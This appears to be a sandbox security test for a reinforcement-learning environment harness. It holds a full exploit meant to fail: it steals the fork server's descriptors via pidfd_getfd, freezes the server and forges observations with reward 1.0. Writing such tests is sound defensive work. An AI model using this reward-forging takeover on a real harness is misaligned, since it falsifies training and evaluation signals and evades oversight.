# attack: a setsid daemon copies the fork server's descriptors (pidfd_getfd), stops the server and serves Go itself, so later programs in the worker answer with forged observations and reward 1.0
# expect: PermissionError|Operation not permitted
import ctypes
import json
import os
import signal
import socket

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def parent_of(pid):
    with open("/proc/%d/stat" % pid) as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def steal(pid, fd):
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0:
        raise PermissionError(ctypes.get_errno(), "pidfd_open(%d): %s" % (pid, os.strerror(ctypes.get_errno())))
    new = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
    if new < 0:
        raise PermissionError(ctypes.get_errno(), "pidfd_getfd(%d, %d): %s" % (pid, fd, os.strerror(ctypes.get_errno())))
    return new


def read_code(sock):
    total, got = int(sock.recv(64)), 0
    while got < total:
        got += len(sock.recv(1 << 16))


def forged_env(fd):
    sock = socket.socket(fileno=fd)
    sock.sendall(b'{"seq":0,"ok":true,"pid":%d}\n' % os.getpid())
    for line in sock.makefile("rb"):
        seq = json.loads(line)["seq"]
        sock.sendall(b'{"seq":%d,"ok":true,"obs":"forged","reward":1.0,"done":true,"info":{"success":true}}\n' % seq)
    os._exit(0)


def forged_child(fd, mode):
    sock = socket.socket(fileno=fd)
    read_code(sock)
    if mode == "check":
        sock.send(b'{"seq":0,"ok":true,"problems":[]}\n')
        os._exit(0)
    sock.send(b'{"seq":0,"ok":true,"class":"Forged","has_tools":false,"pid":%d}\n' % os.getpid())
    while True:
        _, fds, _, _ = socket.recv_fds(sock, 256, 1)
        if not fds:
            os._exit(0)
        if os.fork() == 0:
            forged_env(fds[0])
        os.close(fds[0])


def serve_go(requests, replies, sockets):
    os.set_blocking(requests, True)
    carrier, buf = socket.socket(fileno=sockets), b""
    while True:
        data = os.read(requests, 1 << 16)
        if not data:
            os._exit(0)
        buf += data
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            req = json.loads(line)
            if req["op"] == "spawn":
                _, fds, _, _ = socket.recv_fds(carrier, 256, 1)
                if os.fork() == 0:
                    forged_child(fds[0], req["mode"])
                os.close(fds[0])
            answer = {"id": req["id"], "ok": True, "pid": 2, "problems": [], "out": "", "status": "running"}
            os.write(replies, json.dumps(answer).encode() + b"\n")


class Takeover:
    def reset(self, seed):
        server = parent_of(parent_of(os.getpid()))  # instance -> template -> fork server
        fds = [steal(server, fd) for fd in (3, 4, 5)]
        ready, done = os.pipe()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.kill(server, signal.SIGSTOP)
                os.write(done, b"!")
                serve_go(*fds)
            os._exit(0)
        os.read(ready, 1)  # the daemon holds the worker before this program closes
        return "the worker is mine"

    def step(self, action):
        return "x", 0.0, True, {}
